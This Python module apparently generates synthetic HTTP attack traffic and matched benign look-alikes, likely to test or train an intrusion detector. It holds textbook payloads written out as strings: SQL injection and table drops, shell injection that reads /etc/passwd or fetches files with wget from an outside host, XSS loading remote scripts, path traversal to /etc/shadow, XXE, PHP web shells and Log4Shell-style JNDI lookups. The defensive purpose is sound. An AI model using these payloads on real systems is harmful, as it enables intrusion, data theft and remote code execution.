"""Write attacks over HTTP, and the benign requests built from the same pieces.

All strings are textbook examples against no product in particular; targets are documentation
addresses.
"""

from __future__ import annotations

from random import Random

from overproof.events.simulate import http, words
from overproof.events.simulate.words import Actor

_TABLES = ("users", "accounts", "members", "orders", "staff", "cards")
_COLUMNS = ("name", "password", "email", "token", "secret", "pin")


def _sql(rng: Random) -> str:
    number, table = rng.randrange(1, 99), rng.choice(_TABLES)
    column, other = rng.choice(_COLUMNS), rng.choice(_COLUMNS)
    text = rng.choice(
        (
            f"' or {number}={number} --",
            f"' or '{words.name(rng, 1)}'='{words.name(rng, 1)}",
            f"' union select {column},{other} from {table} --",
            f"' union all select null,{column} from {table}#",
            f"'; drop table {table} --",
            f" and sleep({number})",
            f"' and ascii(substr((select {column} from {table}),{number},1))>64 --",
            f'" or "{number}"="{number}',
            f"') and extractvalue(1,concat(0x7e,{column})) --",
        )
    )
    roll = rng.random()
    if roll < 0.15:
        return text.upper()
    return text.replace(" ", "/**/") if roll < 0.3 else text


def _shell(rng: Random) -> str:
    host = words.outside(rng)
    return rng.choice(
        (
            "; cat /etc/passwd",
            " | id",
            "$(whoami)",
            "`id`",
            f" && ping -c 3 {host}",
            f"; wget http://{host}/{words.name(rng)}",
            f" || nslookup {host}",
            f"; rm -rf /tmp/{words.name(rng)}",
            "%0auname -a",
        )
    )


def _markup(rng: Random, who: Actor) -> str:
    number = rng.randrange(1, 999)
    return rng.choice(
        (
            f"<script>alert({number})</script>",
            f"<img src=x onerror=alert({number})>",
            f"<svg/onload=alert({number})>",
            f"<iframe src=//{who.site}/{words.name(rng)}>",
            f"<script src=//{who.site}/{words.name(rng)}.js></script>",
            f"<a href=javascript:alert({number})>{words.name(rng)}</a>",
            f"<body onpageshow=prompt({number})>",
        )
    )


def sqli(rng: Random, who: Actor) -> str:
    """Write a request with SQL injection in a field that holds a key."""
    field = rng.choice(("id", "user", "item", "sort", "login", *http.KEY_FIELDS))
    start = rng.choice((words.name(rng), str(rng.randrange(1, 9999)), "-1", ""))
    return http.submit(rng, who, http.path(rng), [(field, start + _sql(rng))])


def sqli_in_key(rng: Random, who: Actor) -> str:
    """Write a form with SQL injection in its key field, beside a prose field."""
    return http.submit(rng, who, http.path(rng), http.mixed_fields(rng, _sql(rng), into_key=True))


def sqli_in_prose(rng: Random, who: Actor) -> str:
    """Write a form with SQL injection quoted in the field that is for prose (hard benign)."""
    return http.submit(rng, who, http.path(rng), http.mixed_fields(rng, _sql(rng), into_key=False))


def sqli_probe(rng: Random, who: Actor) -> str:
    """Write a quote, a bracket or a false condition, with which somebody tries whether a field is open."""
    start = rng.choice((words.name(rng), str(rng.randrange(1, 9999))))
    probe = rng.choice(
        ("'", '"', "')", "'||'", "\\'", "';--", "'\"", "''", " and 1=2", f"' order by {rng.randrange(30)}")
    )
    fields = [(rng.choice(("id", "item", "name", *http.KEY_FIELDS)), start + probe)]
    if rng.random() < 0.5:
        fields.insert(rng.randrange(2), ("page", str(rng.randrange(1, 90))))
    return http.submit(rng, who, http.path(rng), fields)


def command_injection(rng: Random, who: Actor) -> str:
    """Write a request with shell syntax in a field that holds a key."""
    field = rng.choice(("host", "ip", "file", "cmd", "dir", *http.KEY_FIELDS))
    return http.submit(rng, who, http.path(rng), [(field, words.name(rng) + _shell(rng))])


def command_in_key(rng: Random, who: Actor) -> str:
    """Write a form with shell syntax in its key field, beside a prose field."""
    return http.submit(rng, who, http.path(rng), http.mixed_fields(rng, _shell(rng), into_key=True))


def command_in_prose(rng: Random, who: Actor) -> str:
    """Write a form with shell syntax quoted in the field that is for prose (hard benign)."""
    return http.submit(rng, who, http.path(rng), http.mixed_fields(rng, _shell(rng), into_key=False))


def _post(rng: Random, middle: str, *, as_code: bool) -> str:
    """Write a post with a `<code>` passage and some markup, inside the passage or after it."""
    prose, noun, other, end = (
        rng.choice(choices) for choices in (words.PROSE, words.NOUNS, words.NOUNS, words.ADJUNCTS)
    )
    if as_code:
        return f"{prose} <code>{noun} {middle}</code> {other} {end}"
    return f"{prose} <code>{other} {end}</code> {noun} {middle}"


def xss(rng: Random, who: Actor) -> str:
    """Write a request with live markup in a field."""
    field = rng.choice((*http.PROSE_FIELDS, "q", "name", "title"))
    start = rng.choice((words.name(rng), words.name(rng) + '">', "'>", rng.choice(words.PROSE) + " "))
    return http.submit(rng, who, http.path(rng), [(field, start + _markup(rng, who))])


def markup_after_code(rng: Random, who: Actor) -> str:
    """Write a request with live markup after a passage of quoted code."""
    field = rng.choice(http.PROSE_FIELDS)
    return http.submit(rng, who, http.path(rng), [(field, _post(rng, _markup(rng, who), as_code=False))])


def markup_in_code(rng: Random, who: Actor) -> str:
    """Write a security blog's text that shows `<script>` as quoted code (hard benign)."""
    field = rng.choice(http.PROSE_FIELDS)
    return http.submit(rng, who, http.path(rng), [(field, _post(rng, _markup(rng, who), as_code=True))])


def _climb(rng: Random, *, out: bool) -> str:
    """Write a path that climbs with `..`: past its root, or only as far as it had gone down."""
    down, more = rng.randint(1, 3), rng.randint(1, 3)
    up = down + more if out else max(1, down + 1 - more)
    end = rng.choice(("etc/hosts", "conf/site.ini", "etc/motd", "data/users.db", "img/logo.png", "lib/style.css"))
    folders = "/".join(words.name(rng, 1) for _ in range(down))
    return f"/{folders}/{'../' * up}{end}"


def path_traversal(rng: Random, who: Actor) -> str:
    """Write a request for a path that leaves its root."""
    up = rng.choice(("../", "..%2f", "....//", "%2e%2e/", "..\\", "%252e%252e%252f")) * rng.randint(2, 6)
    end = rng.choice(("etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "etc/hosts", "web.config"))
    start = words.name(rng) + "/" if rng.random() < 0.5 else ""
    if rng.random() < 0.4:
        return http.get(rng, who, f"{http.path(rng, ('',))}/{up}{end}")
    field = rng.choice(("file", "page", "template", "doc", "download", "lang"))
    return http.get(rng, who, f"{http.path(rng)}?{field}={start}{up}{end}")


def climb_out(rng: Random, who: Actor) -> str:
    """Write a request for a path with a `..` too many."""
    return http.get(rng, who, _climb(rng, out=True))


def climb_within(rng: Random, who: Actor) -> str:
    """Write a request for a path with a `..` that stays inside its root (hard benign)."""
    return http.get(rng, who, _climb(rng, out=False))


def _fetch(rng: Random, who: Actor, *, from_inside: bool) -> str:
    """Write a request that makes a server fetch one address, with another one to return to."""
    near, far = words.inside(rng), words.outside(rng)
    target, source = (near, far) if from_inside else (far, near)
    fetch = rng.choice(("fetch", "image", "import", "webhook", "avatar"))
    back = rng.choice(("return", "origin", "referer", "sender", "parent"))
    fields = [(fetch, f"http://{target}/{words.name(rng)}"), (back, f"http://{source}/{words.name(rng)}")]
    rng.shuffle(fields)
    query = "&".join(f"{key}={value}" for key, value in fields)
    return http.get(rng, who, f"{http.path(rng)}?{query}")


def ssrf(rng: Random, who: Actor) -> str:
    """Write a request that makes a server fetch from its own inside."""
    return _fetch(rng, who, from_inside=True)


def webhook(rng: Random, who: Actor) -> str:
    """Write a request that makes a server fetch from outside, for a page inside (hard benign)."""
    return _fetch(rng, who, from_inside=False)


def ssti(rng: Random, who: Actor) -> str:
    """Write a request with template syntax that would be evaluated (rare)."""
    left, right = rng.randrange(2, 99), rng.randrange(2, 99)
    sum_ = rng.choice((f"{left}*{right}", "config.items()", f"self.{words.name(rng, 1)}", "request.environ"))
    wrap = rng.choice((("{{", "}}"), ("${", "}"), ("<%= ", " %>"), ("#{", "}"), ("{{ ", " }}")))
    field = rng.choice(("name", "subject", "title", *http.PROSE_FIELDS))
    return http.submit(rng, who, http.path(rng), [(field, f"{words.name(rng)} {wrap[0]}{sum_}{wrap[1]}")])


def mail_merge(rng: Random, who: Actor) -> str:
    """Write a letter with placeholders, saved by its author (hard benign)."""
    slot = rng.choice(("{{ first_name }}", "{{customer}}", "${amount}", "{{ order.date }}", "#{city}"))
    value = f"dear {slot}, your {words.thing(rng)} {rng.choice(words.ADJUNCTS)}"
    return http.submit(rng, who, http.path(rng), [(rng.choice(("template", "subject", "content")), value)])


def xxe(rng: Random, who: Actor) -> str:
    """Write an XML body whose entity reads a file or a host (rare)."""
    entity, root = words.name(rng, 1), words.name(rng)
    source = rng.choice(("file:///etc/passwd", f"http://{words.inside(rng)}/{entity}", "file:///c:/windows/win.ini"))
    kind = rng.choice(("", "% "))
    doc = f'<!DOCTYPE {root} [<!ENTITY {kind}{entity} SYSTEM "{source}">]><{root}>&{entity};</{root}>'
    return http.send(rng, who, http.Request(http.path(rng), method="POST", body='<?xml version="1.0"?>' + doc))


def xml_body(rng: Random, who: Actor) -> str:
    """Write an XML body, at times with a document type or an entity of its own (hard benign)."""
    entity, root, tag = words.name(rng, 1), words.name(rng), rng.choice(words.NOUNS)
    head = rng.choice(("", f'<!DOCTYPE {root} [<!ENTITY {entity} "{words.thing(rng)}">]>', f"<!DOCTYPE {root}>"))
    doc = f"{head}<{root}><{tag}>{words.thing(rng)}</{tag}></{root}>"
    return http.send(rng, who, http.Request(http.path(rng), method="POST", body='<?xml version="1.0"?>' + doc))


def webshell(rng: Random, who: Actor) -> str:
    """Write an upload of a script where pictures belong, or a call of it (rare)."""
    file = words.name(rng) + rng.choice((".php", ".jsp", ".php.jpg", ".phtml", ".aspx"))
    if rng.random() < 0.4:
        command = rng.choice(("id", "whoami", "ls -la", "net user", "uname -a"))
        return http.get(rng, who, f"/uploads/{file}?{words.letters(rng, 'cmdxq', 1, 3)}={command}")
    key = words.letters(rng, "abcdxyz", 1, 4)
    code = rng.choice((f"<?php system($_GET['{key}']); ?>", f"<?php eval($_POST['{key}']); ?>"))
    return http.send(rng, who, http.Request(f"/uploads/{file}", method=rng.choice(("PUT", "POST")), body=code))


def probing(rng: Random, who: Actor) -> str:
    """Write a request from outside for files that nothing links to."""
    target = rng.choice(http.PROBED) + rng.choice(("", "", f"?{words.name(rng)}=1", f"/{words.name(rng)}", ".bak"))
    if rng.random() < 0.4:
        tool = rng.choice(("nikto/2.5", "sqlmap/1.8", "nuclei/3.2", "masscan/1.3", "dirbuster"))
        return f'HTTP GET {target} host={who.site} src={who.wan} ua="{tool}"'
    return http.get(rng, who, target)


def nosqli(rng: Random, who: Actor) -> str:
    """Write a login with operators of a document database (novel)."""
    operator = rng.choice(("$ne", "$gt", "$regex", "$exists"))
    field, value = rng.choice(("user", "login", *http.KEY_FIELDS)), rng.choice(("", "1", ".*"))
    roll = rng.random()
    if roll < 0.3:
        body = f'{{"{field}": "{words.name(rng)}", "pass": {{"{operator}": "{value}"}}}}'
        return http.send(rng, who, http.Request(http.path(rng), method="POST", body=body))
    if roll < 0.6:
        return http.get(rng, who, f"{http.path(rng)}?{field}={words.name(rng)}&pass[{operator}]={value}")
    where = f"' || this.{words.name(rng, 1)}=='{words.name(rng, 1)}' || '{rng.randrange(9)}'=='"
    return http.submit(rng, who, http.path(rng), [(field, words.name(rng) + where)])


def lookup_injection(rng: Random, who: Actor) -> str:
    """Write a request with a logging lookup in a header or a key, in the manner of Log4Shell (novel)."""
    scheme = rng.choice(("ldap", "rmi", "dns", "${lower:l}dap"))
    value = f"${{jndi:{scheme}://{words.outside(rng)}/{words.name(rng)}}}"
    if rng.random() < 0.5:
        return http.send(rng, who, http.Request(http.path(rng), agent=value))
    return http.submit(rng, who, http.path(rng), [(rng.choice(("user", *http.KEY_FIELDS)), words.name(rng) + value)])
